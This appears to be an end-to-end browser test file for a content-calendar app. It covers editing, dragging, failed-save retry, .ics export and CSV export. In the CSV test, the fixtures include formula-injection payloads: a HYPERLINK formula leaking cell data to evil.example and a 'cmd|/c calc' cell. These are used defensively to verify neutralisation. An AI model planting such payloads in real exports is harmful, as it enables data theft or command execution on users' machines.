// Content calendar (内容日历) in a real browser: create / edit / drag / move /
// delete content with the embedded backend and with json-server, a failed save
// that is kept and retried, the .ics export and the CSV export.
//
//   node --test --test-concurrency=1 --test-reporter=spec tests/e2e/calendar.test.mjs

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  DIST_DIR,
  startStaticServer,
  startJsonServer,
  launchBrowser,
  newPage,
  closePage,
  gotoApp,
  assertNoPanic,
  screenshot,
  TEST_TODAY,
  sleep,
  eventually,
  addDays,
  hashState,
  uniq,
  unexpectedErrors,
  assertNoHorizontalOverflow,
  Problems,
  withProblems,
  switchLang,
  parseCsv,
} from './harness.mjs';

// ------------------------------------------------------------------ dates --
// The app's "today" is the browser's local date on the pinned test clock
// (harness TEST_NOW, in Asia/Shanghai), never the machine's date.

/** The `day`th of the month after the one `ymd` is in. */
function nextMonthDay(ymd, day) {
  const [y, m] = ymd.split('-').map(Number);
  const d = new Date(Date.UTC(y, m, day)); // m is already "next" (0-based)
  return d.toISOString().slice(0, 10);
}

// ------------------------------------------------------------ page helpers --

const cell = (date) => `.day-cell[data-date="${date}"]`;

/** The chips (id, title, classes) in a day cell. */
function chipsIn(page, date) {
  return page.evaluate((sel) => {
    const c = document.querySelector(sel);
    if (!c) return null;
    return [...c.querySelectorAll('button.cal-item')].map((b) => ({
      id: b.dataset.id,
      title: b.querySelector('.cal-item-title')?.textContent?.trim(),
      draggable: b.classList.contains('draggable'),
      failed: !!b.querySelector('.badge-failed'),
      pending: !!b.querySelector('.badge'),
    }));
  }, cell(date));
}

/** Days (data-date) whose cell holds a chip for `id`. */
function daysWith(page, id) {
  return page.evaluate(
    (id) =>
      [...document.querySelectorAll(`.day-cell button.cal-item[data-id="${CSS.escape(id)}"]`)].map(
        (b) => b.closest('.day-cell').dataset.date,
      ),
    id,
  );
}

async function waitForMonth(page, date) {
  await page.waitForSelector(`.month-grid ${cell(date)}`, { timeout: 20000 });
}

async function dialogClosed(page) {
  await eventually(async () => {
    assert.equal(await page.locator('[role=dialog]').count(), 0, 'dialog still open');
    assert.equal((await hashState(page)).params.selected, undefined, 'selected= still in the URL');
  }, { page });
}

/** Opens an item's dialog by clicking its chip. */
async function openItem(page, id) {
  await page.locator(`.day-cell button.cal-item[data-id="${id}"]`).first().click();
  await page.waitForSelector('[role=dialog] #ct-title');
  assert.equal((await hashState(page)).params.selected, id);
}

function storedContent(page) {
  return page.evaluate(() => {
    const t = localStorage.getItem('haihe.v1.data.content');
    return t === null ? null : JSON.parse(t);
  });
}

async function centerOf(locator) {
  await locator.scrollIntoViewIfNeeded();
  const b = await locator.boundingBox();
  assert.ok(b, 'element has no box');
  return { x: Math.round(b.x + b.width / 2), y: Math.round(b.y + b.height / 2) };
}

/**
 * Where to drop on a day cell: a point inside it that hit-tests to the cell
 * (or something in it), scrolled so that it and the chip are both on screen.
 */
async function dropPoint(page, date) {
  const p = await page.evaluate((sel) => {
    const c = document.querySelector(sel);
    const r = c.getBoundingClientRect();
    // The day number area, top left, is never covered by a chip.
    const candidates = [
      [r.left + r.width / 2, r.top + 8],
      [r.left + r.width / 2, r.bottom - 6],
      [r.left + r.width / 2, r.top + r.height / 2],
    ];
    for (const [x, y] of candidates) {
      const el = document.elementFromPoint(x, y);
      if (el && el.closest('[data-date]') === c) return { x: Math.round(x), y: Math.round(y) };
    }
    return null;
  }, cell(date));
  assert.ok(p, `no visible point of ${date}'s cell hit-tests to it`);
  return p;
}

/** Brings both the chip and the target cell into the viewport. */
async function frameDrag(page, id, target) {
  await page.evaluate(
    ([id, sel]) => {
      const a = document.querySelector(`button.cal-item[data-id="${CSS.escape(id)}"]`).getBoundingClientRect();
      const b = document.querySelector(sel).getBoundingClientRect();
      const top = Math.min(a.top, b.top);
      const bottom = Math.max(a.bottom, b.bottom);
      window.scrollBy(0, (top + bottom) / 2 - window.innerHeight / 2);
    },
    [id, cell(target)],
  );
  await sleep(50);
}

async function mouseDrag(page, id, target) {
  await frameDrag(page, id, target);
  const chip = page.locator(`${'.day-cell'} button.cal-item[data-id="${id}"]`).first();
  const from = await centerOf(chip);
  const to = await dropPoint(page, target);
  await page.mouse.move(from.x, from.y);
  await page.mouse.down();
  await page.mouse.move(from.x + 4, from.y + 4);
  await page.mouse.move(to.x, to.y, { steps: 8 });
  // While dragging, the cell under the pointer is highlighted.
  await eventually(async () =>
    assert.ok(await page.locator(`${cell(target)}.drop-target`).count(), 'target cell not highlighted while dragging'),
    { page },
  );
  await page.mouse.up();
}

/** Touch-style drag: PointerEvents with pointerType 'touch' on the chip. */
async function touchPointerDrag(page, id, target) {
  await frameDrag(page, id, target);
  const chip = page.locator(`.day-cell button.cal-item[data-id="${id}"]`).first();
  const from = await centerOf(chip);
  const to = await dropPoint(page, target);
  const base = { pointerId: 1, pointerType: 'touch', button: 0, isPrimary: true, bubbles: true, cancelable: true };
  await chip.dispatchEvent('pointerdown', { ...base, buttons: 1, clientX: from.x, clientY: from.y });
  const steps = 6;
  for (let i = 1; i <= steps; i++) {
    const x = Math.round(from.x + ((to.x - from.x) * i) / steps);
    const y = Math.round(from.y + ((to.y - from.y) * i) / steps);
    await chip.dispatchEvent('pointermove', { ...base, button: -1, buttons: 1, clientX: x, clientY: y });
  }
  await eventually(async () =>
    assert.ok(await page.locator(`${cell(target)}.drop-target`).count(), 'target cell not highlighted while dragging'),
    { page },
  );
  await chip.dispatchEvent('pointerup', { ...base, buttons: 0, clientX: to.x, clientY: to.y });
}

/** A real touch drag through the browser's input pipeline (CDP touch events). */
async function realTouchDrag(page, id, target) {
  await frameDrag(page, id, target);
  const chip = page.locator(`.day-cell button.cal-item[data-id="${id}"]`).first();
  const from = await centerOf(chip);
  const to = await dropPoint(page, target);
  const cdp = await page.context().newCDPSession(page);
  const touch = (type, p) =>
    cdp.send('Input.dispatchTouchEvent', {
      type,
      touchPoints: type === 'touchEnd' ? [] : [{ x: p.x, y: p.y, id: 7, radiusX: 4, radiusY: 4, force: 1 }],
    });
  await touch('touchStart', from);
  const steps = 8;
  for (let i = 1; i <= steps; i++) {
    await touch('touchMove', {
      x: Math.round(from.x + ((to.x - from.x) * i) / steps),
      y: Math.round(from.y + ((to.y - from.y) * i) / steps),
    });
  }
  await touch('touchEnd', to);
  await cdp.detach();
}

/** Fills the content dialog's fields (only those given). */
async function fillContent(page, { title, date, time }) {
  if (title !== undefined) await page.fill('#ct-title', title);
  if (date !== undefined) await page.fill('#ct-date', date);
  if (time !== undefined) await page.fill('#ct-time', time);
}

async function submitDialog(page) {
  await page.locator('[role=dialog] button[type=submit]').click();
  await dialogClosed(page);
}

async function deleteFromDialog(page) {
  page.once('dialog', (d) => d.accept());
  await page.locator('[role=dialog] .btn-danger').click();
  await dialogClosed(page);
}

// ------------------------------------------------------------------ setup --

let browser;
let embedded;

before(async () => {
  assert.ok(existsSync(join(DIST_DIR, 'index.html')), `${DIST_DIR}/index.html missing: run \`trunk build --release\``);
  browser = await launchBrowser();
  embedded = await startStaticServer({ config: { backend: 'embedded' } });
});

after(async () => {
  await browser?.close();
  await embedded?.close();
});

/** A json-server on a private db copy and a static server pointing the app at it. */
async function restSetup() {
  const api = await startJsonServer();
  const web = await startStaticServer({ config: { backend: 'rest', rest: { baseUrl: api.url, timeoutMs: 8000 } } });
  return {
    api,
    web,
    close: async () => {
      await web.close();
      await api.close();
    },
  };
}

// ---------------------------------------------------------------- 1. CRUD --

for (const vp of [
  { name: 'desktop', width: 1440, height: 900, touch: false },
  { name: 'tablet', width: 768, height: 1024, touch: true },
]) {
  test(`calendar CRUD, drag and move-to-date, embedded backend, ${vp.width}×${vp.height}${vp.touch ? ' touch' : ''}`, async () => {
    const page = await newPage(browser, {
      viewport: { width: vp.width, height: vp.height },
      hasTouch: vp.touch,
      locale: 'zh-CN',
      timezoneId: 'Asia/Shanghai',
    });
    const tag = `${vp.name}-${uniq()}`;
    const problems = new Problems();
    try {
      const today = TEST_TODAY;
      const d1 = nextMonthDay(today, 10); // always in the future
      const d2 = addDays(d1, 7); // next row of the grid
      const d3 = addDays(d1, 2);
      const d4 = addDays(d3, 1);
      const title1 = `海河夜市·煎饼果子上新 ${tag}`;
      const title2 = `海河夜市·耳朵眼炸糕限定 ${tag}`;

      await gotoApp(page, `${embedded.url}#/calendar?date=${d1}`);
      await waitForMonth(page, d1);
      assert.equal(await page.evaluate(() => navigator.maxTouchPoints > 0), vp.touch, 'hasTouch as configured');
      await problems.axe(page, `month view ${vp.name}`);
      await assertNoHorizontalOverflow(page, 'on the month view');

      // --- create
      await page.getByRole('button', { name: '新建内容' }).click();
      await page.waitForSelector('[role=dialog] #ct-title');
      assert.equal((await hashState(page)).params.selected, 'new');
      assert.equal(
        await page.evaluate(() => document.activeElement?.id),
        'ct-title',
        'the title field has focus when the dialog opens',
      );
      await fillContent(page, { title: title1, date: d1, time: '19:30' });
      await problems.axe(page, `the new-content dialog ${vp.name}`, '[role=dialog]');
      await assertNoHorizontalOverflow(page, 'with the dialog open');
      await screenshot(page, `calendar-${vp.name}-dialog-zh`);
      await submitDialog(page);

      let id;
      await eventually(async () => {
        const chips = await chipsIn(page, d1);
        const mine = chips.find((c) => c.title === title1);
        assert.ok(mine, `new item not in ${d1}'s cell: ${JSON.stringify(chips)}`);
        assert.ok(mine.draggable, 'a non-repeating item is draggable');
        assert.ok(!mine.pending, 'the embedded save is confirmed at once');
        id = mine.id;
      }, { page });
      assert.deepEqual(await daysWith(page, id), [d1]);
      let stored = await storedContent(page);
      assert.ok(stored, 'haihe.v1.data.content written');
      assert.equal(stored.find((c) => c.id === id)?.publishAt, `${d1}T19:30:00`);

      // --- edit the title
      await openItem(page, id);
      assert.equal(await page.inputValue('#ct-title'), title1);
      assert.equal(await page.inputValue('#ct-date'), d1);
      assert.equal(await page.inputValue('#ct-time'), '19:30');
      await fillContent(page, { title: title2 });
      await submitDialog(page);
      await eventually(async () => {
        const chips = await chipsIn(page, d1);
        assert.equal(chips.find((c) => c.id === id)?.title, title2);
      }, { page });
      assert.equal((await storedContent(page)).find((c) => c.id === id)?.title, title2);

      // --- drag to another day (mouse on desktop, touch pointers on the tablet)
      if (vp.touch) await touchPointerDrag(page, id, d2);
      else await mouseDrag(page, id, d2);
      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
      assert.equal(await page.locator('.day-cell.drop-target').count(), 0, 'drop highlight cleared');
      assert.equal((await hashState(page)).params.selected, undefined, 'the drag did not also open the item');
      await eventually(async () =>
        assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d2}T19:30:00`),
        { page },
      );

      // --- reload: still there, same time of day
      await page.reload({ waitUntil: 'domcontentloaded' });
      await waitForMonth(page, d2);
      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
      assert.equal((await chipsIn(page, d2)).find((c) => c.id === id)?.title, title2);
      stored = (await storedContent(page)).find((c) => c.id === id);
      assert.equal(stored?.title, title2);
      assert.equal(stored?.publishAt, `${d2}T19:30:00`);
      await openItem(page, id);
      assert.equal(await page.inputValue('#ct-date'), d2);
      assert.equal(await page.inputValue('#ct-time'), '19:30', 'the drag kept the time of day');

      // --- move to a date without dragging
      await page.fill('#ct-move', d3);
      await page.getByRole('button', { name: '移动', exact: true }).click();
      await dialogClosed(page);
      await eventually(async () => assert.deepEqual(await daysWith(page, id), [d3]), { page });
      await eventually(async () =>
        assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d3}T19:30:00`),
        { page },
      );

      // --- tablet: one more drag, with real touch input through the browser
      if (vp.touch) {
        await realTouchDrag(page, id, d4);
        await eventually(async () => assert.deepEqual(await daysWith(page, id), [d4]), { page, timeout: 5000 });
        await eventually(async () =>
          assert.equal((await storedContent(page)).find((c) => c.id === id)?.publishAt, `${d4}T19:30:00`),
          { page },
        );
        assert.equal((await hashState(page)).params.selected, undefined, 'the touch drag did not also open the item');
      }
      const lastDay = vp.touch ? d4 : d3;

      // --- both languages
      await page.evaluate(() => window.scrollTo(0, 0));
      await screenshot(page, `calendar-${vp.name}-month-zh`, { fullPage: true });
      await switchLang(page, 'en');
      await page.getByRole('button', { name: 'New content' }).waitFor();
      await page.getByRole('button', { name: 'Export .ics' }).waitFor();
      await problems.axe(page, `month view (EN) ${vp.name}`);
      await assertNoHorizontalOverflow(page, 'on the month view in English');
      await screenshot(page, `calendar-${vp.name}-month-en`, { fullPage: true });
      await openItem(page, id);
      await page.getByRole('heading', { name: 'Edit content' }).waitFor();
      await problems.axe(page, `the edit dialog (EN) ${vp.name}`, '[role=dialog]');
      await assertNoHorizontalOverflow(page, 'with the dialog open in English');
      await screenshot(page, `calendar-${vp.name}-dialog-en`);

      // --- delete
      await deleteFromDialog(page);
      await eventually(async () => assert.deepEqual(await daysWith(page, id), []), { page });
      await page.reload({ waitUntil: 'domcontentloaded' });
      await waitForMonth(page, lastDay);
      await page.waitForSelector('.month-grid button.cal-item').catch(() => {});
      assert.deepEqual(await daysWith(page, id), [], 'deleted item is back after a reload');
      assert.equal((await storedContent(page)).some((c) => c.id === id), false, 'deleted item still stored');

      assertNoPanic(page);
      assert.deepEqual(unexpectedErrors(page), [], 'console errors');
      problems.assertNone();
    } catch (err) {
      await screenshot(page, `calendar-${vp.name}-FAILED`, { fullPage: true }).catch(() => {});
      throw withProblems(err, problems);
    } finally {
      await closePage(page);
    }
  });
}

// ------------------------------------------------------------ 2. REST CRUD --

test('calendar create, drag and delete against json-server', async () => {
  const env = await restSetup();
  const page = await newPage(browser, { viewport: { width: 1440, height: 900 } });
  try {
    const today = TEST_TODAY;
    const d1 = nextMonthDay(today, 12);
    const d2 = addDays(d1, 7);
    const title = `REST·津门相声茶馆专场 ${uniq()}`;
    const before = env.api.readDb().content.length;

    await gotoApp(page, `${env.web.url}#/calendar?date=${d1}`);
    await waitForMonth(page, d1);
    await page.waitForSelector('.month-grid button.cal-item');

    await page.getByRole('button', { name: '新建内容' }).click();
    await page.waitForSelector('[role=dialog] #ct-title');
    await fillContent(page, { title, date: d1, time: '08:15' });
    await submitDialog(page);

    let id;
    await eventually(async () => {
      const mine = (await chipsIn(page, d1)).find((c) => c.title === title);
      assert.ok(mine, 'new item shown');
      id = mine.id;
    }, { page });
    await eventually(async () => {
      const row = env.api.readDb().content.find((c) => c.id === id);
      assert.ok(row, `json-server has no ${id}`);
      assert.equal(row.title, title);
      assert.equal(row.publishAt, `${d1}T08:15:00`);
    }, { page });
    assert.equal(env.api.readDb().content.length, before + 1);
    await eventually(async () => assert.ok(!(await chipsIn(page, d1)).find((c) => c.id === id).pending, 'badge cleared'), { page });

    await mouseDrag(page, id, d2);
    await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });
    await eventually(async () =>
      assert.equal(env.api.readDb().content.find((c) => c.id === id)?.publishAt, `${d2}T08:15:00`),
      { page },
    );
    assert.equal(env.api.readDb().content.find((c) => c.id === id)?.title, title);

    await page.reload({ waitUntil: 'domcontentloaded' });
    await waitForMonth(page, d2);
    await eventually(async () => assert.deepEqual(await daysWith(page, id), [d2]), { page });

    await openItem(page, id);
    await deleteFromDialog(page);
    await eventually(async () =>
      assert.equal(env.api.readDb().content.some((c) => c.id === id), false, 'still in db.json'),
      { page },
    );
    assert.equal(env.api.readDb().content.length, before);
    await page.reload({ waitUntil: 'domcontentloaded' });
    await waitForMonth(page, d2);
    await page.waitForSelector('.month-grid button.cal-item');
    assert.deepEqual(await daysWith(page, id), []);

    assertNoPanic(page);
    assert.deepEqual(unexpectedErrors(page), [], 'console errors');
    assert.deepEqual(page.httpErrors, [], 'HTTP errors');
  } catch (err) {
    await screenshot(page, 'calendar-rest-FAILED', { fullPage: true }).catch(() => {});
    throw err;
  } finally {
    await closePage(page);
    await env.close();
  }
});

// ------------------------------------------------------- 3. failed save --

test('a failed save keeps the edit, lists it in Settings, survives a reload, and Retry syncs it', async () => {
  const env = await restSetup();
  const page = await newPage(browser, { viewport: { width: 1440, height: 900 } });
  // Panics are recorded per step (not thrown at once) so that the rest of
  // the flow is still checked; any panic fails the test at its end.
  const problems = new Problems();
  const soon = (fn, opts) => eventually(fn, opts);
  try {
    const item = env.api.readDb().content.find((c) => c.repeat === 'none');
    assert.ok(item, 'the db has a non-repeating item');
    const day = item.publishAt.slice(0, 10);
    const newTitle = `改名未同步·五大道秋季漫步 ${uniq()}`;
    const calendarUrl = `${env.web.url}#/calendar?view=week&date=${day}`;
    const settingsUrl = `${env.web.url}#/settings`;

    let puts = 0;
    await page.route('**/content/*', (route) => {
      if (route.request().method() === 'PUT') {
        puts++;
        return route.fulfill({ status: 500, contentType: 'application/json', body: '{"error":"boom"}' });
      }
      return route.continue();
    });

    await gotoApp(page, calendarUrl);
    await page.waitForSelector(`.week-grid ${cell(day)} button.cal-item[data-id="${item.id}"]`, { timeout: 20000 });
    await openItem(page, item.id);
    assert.equal(await page.inputValue('#ct-title'), item.title);
    await fillContent(page, { title: newTitle });
    await submitDialog(page);

    const chip = page.locator(`${cell(day)} button.cal-item[data-id="${item.id}"]`);
    const badges = () => chip.locator('.badge').evaluateAll((b) => b.map((x) => `${x.className}: ${x.textContent}`));
    await soon(async () => {
      assert.equal(puts, 1, 'one PUT was sent');
      assert.equal(await chip.locator('.cal-item-title').textContent(), newTitle);
      assert.equal(
        await page.evaluate(() => JSON.parse(localStorage.getItem('haihe.v1.outbox'))?.edits?.[0]?.state?.state),
        'failed',
        'the outbox has the edit as failed',
      );
    });
    await problems.check('the chip shows the unsynced badge once the PUT failed (no reload)', () =>
      soon(async () => assert.deepEqual(await badges(), ['badge badge-failed: 未同步']), { timeout: 3000 }),
    );
    assert.equal(env.api.readDb().content.find((c) => c.id === item.id).title, item.title, 'server unchanged');
    problems.panics(page, 'while saving');

    const outboxItem = () => page.locator('#sync .outbox-item', { hasText: newTitle });
    await page.goto(settingsUrl);
    await outboxItem().waitFor();
    problems.panics(page, 'on leaving the calendar for Settings');
    assert.equal(await outboxItem().locator('.badge-failed').count(), 1);
    assert.match(await outboxItem().textContent(), /修改 · content/);
    await screenshot(page, 'calendar-rest-unsynced-settings');

    // Reload: the edit is still listed, and still shown on the calendar.
    await page.reload({ waitUntil: 'domcontentloaded' });
    await outboxItem().waitFor({ timeout: 20000 });
    assert.equal(await outboxItem().locator('.badge-failed').count(), 1);
    await page.goto(calendarUrl);
    await soon(async () => {
      assert.equal(await chip.locator('.cal-item-title').textContent(), newTitle);
      assert.deepEqual(await badges(), ['badge badge-failed: 未同步']);
    });
    assert.equal(puts, 1, 'nothing re-sent by itself');
    problems.panics(page, 'after the reload');

    // The server works again: Retry in Settings syncs it.
    await page.unroute('**/content/*');
    await page.goto(settingsUrl);
    await outboxItem().waitFor();
    problems.panics(page, 'on leaving the calendar for Settings (after the reload)');
    await outboxItem().getByRole('button', { name: '重试' }).click();
    let synced = false;
    await problems.check('Retry in Settings, right after coming from the calendar, syncs the edit', async () => {
      await soon(async () => assert.equal(env.api.readDb().content.find((c) => c.id === item.id)?.title, newTitle), {
        timeout: 4000,
      });
      synced = true;
    });
    problems.panics(page, 'on Retry');
    if (!synced) {
      // Check the retry itself from a fresh document (Settings opened directly).
      await page.reload({ waitUntil: 'domcontentloaded' });
      await outboxItem().waitFor({ timeout: 20000 });
      await outboxItem().getByRole('button', { name: '重试' }).click();
      await soon(async () => assert.equal(env.api.readDb().content.find((c) => c.id === item.id)?.title, newTitle));
      problems.panics(page, 'on Retry from a freshly loaded Settings page');
    }
    await soon(async () => assert.equal(await page.locator('#sync .outbox-item').count(), 0));
    assert.match(await page.locator('#sync').textContent(), /所有修改都已同步/);
    problems.panics(page, 'on Retry');
    await page.goto(calendarUrl);
    await soon(async () => {
      assert.equal(await chip.locator('.cal-item-title').textContent(), newTitle);
      assert.deepEqual(await badges(), [], 'no badge once synced');
    });
    problems.panics(page, 'back on the calendar');

    assert.deepEqual(
      unexpectedErrors(page, [/Failed to load resource.*500/, /RuntimeError: unreachable/]),
      [],
      'console errors',
    );
    problems.assertNone();
  } catch (err) {
    await screenshot(page, 'calendar-unsynced-FAILED', { fullPage: true }).catch(() => {});
    throw withProblems(err, problems);
  } finally {
    await closePage(page);
    await env.close();
  }
});

// --------------------------------------------------------------- 4. .ics --

/** RFC 5545 §3.1 unfolding: CRLF followed by one space or tab is removed. */
function unfoldIcs(text) {
  return text
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .filter((l) => l !== '');
}

/** VEVENTs as { NAME(;params): value } maps (first occurrence wins). */
function parseEvents(lines) {
  const events = [];
  let cur = null;
  for (const l of lines) {
    if (l === 'BEGIN:VEVENT') cur = {};
    else if (l === 'END:VEVENT') {
      events.push(cur);
      cur = null;
    } else if (cur) {
      const i = l.indexOf(':');
      const key = l.slice(0, i);
      if (!(key in cur)) cur[key] = l.slice(i + 1);
    }
  }
  return events;
}

const icsText = (s) => s.replace(/\\/g, '\\\\').replace(/;/g, '\\;').replace(/,/g, '\\,').replace(/\r?\n/g, '\\n');

test('the .ics export is valid RFC 5545 with one event per content item', async () => {
  const env = await restSetup();
  const page = await newPage(browser, { viewport: { width: 1440, height: 900 } });
  try {
    const db = env.api.readDb();
    // The export includes the campaigns, which load next to the content.
    const loaded = ['content', 'campaigns'].map((r) =>
      page.waitForResponse((res) => res.url() === `${env.api.url}/${r}` && res.ok(), { timeout: 20000 }),
    );
    await gotoApp(page, `${env.web.url}#/calendar`);
    await Promise.all(loaded);
    await page.waitForSelector('.month-grid button.cal-item');
    await sleep(200);

    const [download] = await Promise.all([
      page.waitForEvent('download', { timeout: 10000 }),
      page.getByRole('button', { name: '导出日历 (.ics)' }).click(),
    ]);
    assert.equal(download.suggestedFilename(), 'haihe-content.ics');
    assert.equal(await download.failure(), null, 'download failed');
    const buf = readFileSync(await download.path());
    const text = buf.toString('utf8');

    // Line structure: CRLF only, every physical line ≤ 75 octets.
    assert.ok(text.endsWith('\r\n'), 'ends with CRLF');
    assert.equal((text.match(/\n/g) ?? []).length, (text.match(/\r\n/g) ?? []).length, 'bare LF');
    assert.equal((text.match(/\r/g) ?? []).length, (text.match(/\r\n/g) ?? []).length, 'bare CR');
    const physical = text.slice(0, -2).split('\r\n');
    const long = physical.filter((l) => Buffer.byteLength(l, 'utf8') > 75);
    assert.deepEqual(long.slice(0, 3), [], `${long.length} lines over 75 octets`);
    assert.ok(physical.some((l) => l.startsWith(' ')), 'long (Chinese) lines are folded');
    assert.ok(!text.includes('\uFFFD'), 'folding split a UTF-8 sequence');

    const lines = unfoldIcs(text);
    assert.equal(lines[0], 'BEGIN:VCALENDAR');
    assert.equal(lines.at(-1), 'END:VCALENDAR');
    assert.ok(lines.includes('VERSION:2.0'));
    assert.ok(lines.some((l) => l.startsWith('PRODID:')));
    assert.ok(lines.includes('TZID:Asia/Shanghai'), 'VTIMEZONE for Asia/Shanghai');
    assert.equal(lines.filter((l) => l === 'BEGIN:VEVENT').length, lines.filter((l) => l === 'END:VEVENT').length);

    const events = parseEvents(lines);
    const byUid = new Map(events.map((e) => [e.UID, e]));
    const contentEvents = events.filter((e) => e.UID && !e.UID.startsWith('campaign-'));
    assert.equal(contentEvents.length, db.content.length, 'one VEVENT per content item');
    for (const c of db.content) {
      const e = byUid.get(`${c.id}@haihe`);
      assert.ok(e, `no VEVENT for ${c.id}`);
      const start = c.publishAt.replace(/[-:]/g, '').slice(0, 15);
      assert.equal(e['DTSTART;TZID=Asia/Shanghai'], start, `${c.id} DTSTART`);
      assert.equal(e.SUMMARY, icsText(c.title), `${c.id} SUMMARY`);
      assert.match(e.DTSTAMP ?? '', /^\d{8}T\d{6}Z$/);
      if (c.repeat === 'weekly') assert.equal(e.RRULE, 'FREQ=WEEKLY');
      if (c.repeat === 'monthly') assert.equal(e.RRULE, 'FREQ=MONTHLY');
    }
    const known = db.content[1];
    assert.ok(lines.includes(`SUMMARY:${icsText(known.title)}`), `SUMMARY of ${known.title}`);
    assert.equal(events.filter((e) => e.UID?.startsWith('campaign-')).length, db.campaigns.length, 'campaign events');

    assertNoPanic(page);
    assert.deepEqual(unexpectedErrors(page), [], 'console errors');
  } catch (err) {
    await screenshot(page, 'calendar-ics-FAILED').catch(() => {});
    throw err;
  } finally {
    await closePage(page);
    await env.close();
  }
});

// ----------------------------------------------------------- 5. CSV export --
// CSV formula injection: the content calendar's export neutralises every cell
// a spreadsheet would run as a formula (beginning with =, +, -, @, tab or CR)
// by prefixing ' (OWASP), whichever field it is in. The items come from a
// tiny json-server dataset so the expected cells are exact. (The cockpit's
// CSV is checked for formula-like cells in cockpit.test.mjs.)

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")';

function content(id, fields) {
  return {
    id,
    title: `标题 ${id}`,
    kind: 'product_launch',
    channels: ['official_account'],
    status: 'scheduled',
    owner: '王芳',
    publishAt: '2026-12-03T10:00:00',
    notes: '',
    tags: [],
    link: null,
    repeat: 'none',
    ...fields,
  };
}

const ITEMS = [
  content('ct-f1', { title: HYPERLINK, owner: '@王芳', notes: '+86 138 0000 0000' }),
  content('ct-f2', { title: '-30% 冬至饺子', tags: ['=1+1', '早餐'], notes: '\tcmd|/c calc' }),
  content('ct-f3', { title: '煎饼果子 -30%', owner: '李雷', notes: '\r=2+3' }),
];


test('content calendar CSV: formula cells get a leading apostrophe, titles stay text on screen', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'haihe-csv-'));
  const dbPath = join(dir, 'db.json');
  const db = { content: ITEMS };
  for (const k of ['metrics', 'retention', 'portrait', 'hourly', 'pages', 'feedback', 'campaigns', 'channels', 'roadmap', 'experience', 'health', 'experiments', 'targets', 'events']) {
    db[k] = [];
  }
  writeFileSync(dbPath, JSON.stringify(db));
  let api;
  let web;
  let page;
  try {
    api = await startJsonServer({ dbPath });
    web = await startStaticServer({ root: DIST_DIR, config: { backend: 'rest', rest: { baseUrl: api.url } } });
    page = await newPage(browser);
    await gotoApp(page, `${web.url}#/calendar?view=agenda&date=2026-12-01`);
    const exportButton = page.getByRole('button', { name: '导出 CSV', exact: true });
    await exportButton.waitFor({ timeout: 20000 });
    // The payload is shown as plain text, never run.
    await eventually(async () => assert.ok((await page.getByText(HYPERLINK, { exact: true }).count()) >= 1, 'the title is on screen as text'));

    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), exportButton.click()]);
    const text = await readFile(await download.path(), 'utf8');
    assert.ok(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel');
    const rows = parseCsv(text.slice(1));
    assert.deepEqual(rows[0], ['编号', '标题', '类型', '渠道', '状态', '负责人', '发布时间', '重复', '标签', '链接', '备注']);
    const byId = Object.fromEntries(rows.slice(1).map((r) => [r[0], r]));
    assert.deepEqual(Object.keys(byId).sort(), ['ct-f1', 'ct-f2', 'ct-f3']);
    const col = (id, name) => byId[id][rows[0].indexOf(name)];

    assert.equal(col('ct-f1', '标题'), `'${HYPERLINK}`);
    assert.equal(col('ct-f1', '负责人'), "'@王芳");
    assert.equal(col('ct-f1', '备注'), "'+86 138 0000 0000");
    assert.equal(col('ct-f2', '标题'), "'-30% 冬至饺子");
    assert.equal(col('ct-f2', '标签'), "'=1+1、早餐", 'the joined cell starts with =');
    assert.equal(col('ct-f2', '备注'), "'\tcmd|/c calc");
    assert.equal(col('ct-f3', '备注'), "'\r=2+3");
    // Text that merely contains a trigger later on is left as it is.
    assert.equal(col('ct-f3', '标题'), '煎饼果子 -30%');
    assert.equal(col('ct-f3', '负责人'), '李雷');
    // No cell anywhere begins with a trigger.
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `unneutralised cell ${JSON.stringify(cell)}`);
    assertNoPanic(page);
  } catch (err) {
    if (page) await screenshot(page, 'csv-content-FAILED', { fullPage: true }).catch(() => {});
    if (api) err.message += `\njson-server output:\n${api.output().slice(-2000)}`;
    throw err;
  } finally {
    await closePage(page);
    await web?.close();
    await api?.close();
    await rm(dir, { recursive: true, force: true });
  }
});
